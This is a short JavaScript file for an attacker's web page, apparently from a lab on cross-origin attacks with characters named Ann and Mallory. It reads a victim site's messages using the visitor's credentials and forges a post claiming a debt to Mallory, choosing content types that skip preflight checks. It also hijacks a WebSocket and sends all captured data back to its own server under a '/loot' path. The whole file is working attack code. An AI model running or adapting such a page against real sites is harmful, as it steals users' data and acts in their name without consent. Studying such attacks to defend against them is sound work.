// The hostile page, from an origin of its own: Ann has only opened it. What it gets, it gives to its own server.

const victim = new URL(location.href).searchParams.get("victim");

const ATTACKS = {
  async read() {
    const answer = await fetch(`http://${victim}/messages`, { credentials: "include" });
    return answer.text();
  },

  async post() {
    const body = JSON.stringify({ text: "I owe Mallory 100 €." });
    for (const type of ["text/plain", "application/json"]) {
      const request = { method: "POST", credentials: "include", headers: { "Content-Type": type }, body };
      await fetch(`http://${victim}/messages`, request).catch(() => "sent, perhaps, and the answer is kept from us");
    }
    return "";
  },

  socket() {
    return new Promise((resolve) => {
      const socket = new WebSocket(`ws://${victim}/socket`);
      socket.addEventListener("message", ({ data }) => resolve(data));
      socket.addEventListener("close", () => resolve(""));
    });
  },
};

for (const [attack, run] of Object.entries(ATTACKS)) {
  const loot = await run().catch(() => "");
  await fetch(`/loot/${attack}`, { method: "POST", body: loot });
  const item = document.createElement("li");
  item.textContent = `${attack}: ${loot.slice(0, 60) || "nothing to read"}`;
  document.querySelector("ul").append(item);
}
await fetch("/loot/end", { method: "POST", body: "" });
